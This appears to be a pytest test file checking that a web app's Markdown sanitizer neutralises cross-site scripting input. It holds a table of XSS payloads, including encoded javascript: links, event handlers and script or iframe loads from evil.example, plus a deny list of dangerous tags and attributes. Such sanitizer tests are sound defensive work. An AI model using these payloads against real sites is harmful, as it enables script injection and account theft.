"""The one sanitizer, with a table of dangerous inputs (as CTFd does)."""
import pytest

from app.markup import render_markdown

DANGEROUS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    "[x](javascript:alert(1))",
    "[x](jav&#x61;script:alert(1))",
    "[x](&#106;avascript:alert(1))",
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    "[x](data:text/html,<script>alert(1)</script>)",
    "<svg onload=alert(1)><circle r=1 /></svg>",
    "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>",
    "<iframe src=https://evil.example></iframe>",
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<p onclick="alert(1)" ONMOUSEOVER="alert(2)">x</p>',
    "<style>body{display:none}</style>",
    "<object data=x></object><embed src=x>",
    "![img](javascript:alert(1))",
    "<a href=\"https://ok.example\" onclick=\"alert(1)\">ok</a>",
    "<form action=https://evil.example><input name=x></form>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<scr<script>ipt>alert(1)</script>",
]

FORBIDDEN = ["<script", "javascript:", "onerror", "onload", "onclick", "onmouseover", "<svg", "<math", "<iframe",
             "style=", "<style", "data:text", "<object", "<embed", "<img", "<form", "<input"]


@pytest.mark.parametrize("source", DANGEROUS)
def test_dangerous_input_is_neutralised(source):
    html = render_markdown(source).lower()
    for needle in FORBIDDEN:
        assert needle not in html, (source, html)


def test_links_keep_safe_targets_and_get_rel():
    html = render_markdown("[site](https://example.org) [mail](mailto:a@example.org) [plain](http://example.org)")
    assert html.count('rel="nofollow noopener"') == 3
    assert 'href="https://example.org"' in html and 'href="mailto:a@example.org"' in html


def test_a_user_supplied_rel_is_replaced():
    html = render_markdown('<a href="https://example.org" rel="opener" target="_blank">x</a>')
    assert 'rel="opener"' not in html and "target" not in html and 'rel="nofollow noopener"' in html


def test_markdown_formatting_survives():
    html = render_markdown("# Title\n\n**bold** *it*\n\n- one\n- two\n\n> quote")
    assert "<h3>Title</h3>" in html and "<strong>bold</strong>" in html and "<li>one</li>" in html
    assert "<blockquote>" in html


def test_urdu_text_is_kept():
    assert "انسانی اسمگلنگ" in render_markdown("**انسانی اسمگلنگ** کی روک تھام")
